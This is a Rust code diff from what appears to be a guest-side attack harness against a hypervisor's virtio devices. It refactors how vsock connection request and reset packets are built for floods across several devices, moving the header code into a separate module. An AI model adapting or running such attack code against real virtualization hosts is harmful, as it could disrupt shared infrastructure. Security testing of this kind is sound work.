@@ -8,10 +8,10 @@ use crate::cpu;
 use crate::options::Attack;
 use crate::pattern::PAGE_SIZE;
 use crate::virtio::{Buffer, Device, devices, read, write};
+use crate::vsock::{HEADER, OP_REQUEST, OP_RST, VSOCK, packet};
 
 const BLOCK: u32 = 2;
 const RNG: u32 = 4;
-const VSOCK: u32 = 19;
 
 /// The hotplug block's register of ejected slots, and the serial port's data register.
 const EJECT_PORT: u16 = 0x628;
@@ -38,12 +38,8 @@ const NOWHERE: u64 = 1 << 44;
 const VIRTIO_BLK_T_DISCARD: u32 = 11;
 const SECTORS_MAX: u64 = 1 << 21;
 
-const OP_REQUEST: u16 = 1;
-const OP_RST: u16 = 3;
-const VSOCK_HEADER: u32 = 44;
 /// Packets of one round: their headers fill half of a page.
 const PACKETS: u16 = 32;
-const HOST_CID: u64 = 2;
 const FIRST_PORT: u32 = 1024;
 /// The number of devices that are attacked.
 const DEVICES: usize = 8;
@@ -222,10 +218,10 @@ impl Attacker {
             packet(
                 header,
                 cid,
-                self.next_port,
+                [self.next_port, Attack::VSOCK_PORT],
                 if is_reset { OP_RST } else { OP_REQUEST },
             );
-            let buffer = (header, VSOCK_HEADER, false);
+            let buffer = (header, HEADER, false);
             descriptor(tx.descriptors(), index, buffer, 0, 0);
             tx.offer(index, index);
         }
@@ -260,21 +256,6 @@ fn descriptor(table: u64, index: u16, (addr, len, writable): Buffer, flags: u16,
     write(at + 8, len);
     write(at + 12, flags | if writable { WRITE } else { 0 });
     write(at + 14, next);
-}
-
-/// A packet's header (`virtio_vsock_hdr`, virtio 1.3, 5.10.6). It is packed.
-fn packet(at: u64, cid: u64, port: u32, op: u16) {
-    write(at, cid);
-    write(at + 8, HOST_CID);
-    write(at + 16, port);
-    write(at + 20, Attack::VSOCK_PORT);
-    write(at + 24, 0_u32);
-    // A stream.
-    write(at + 28, 1_u16);
-    write(at + 30, op);
-    write(at + 32, 0_u32);
-    write(at + 36, 1_u32 << 16);
-    write(at + 40, 0_u32);
 }
 
 /// A queue of [`ENTRIES`] entries whose driver keeps no book of its chains.
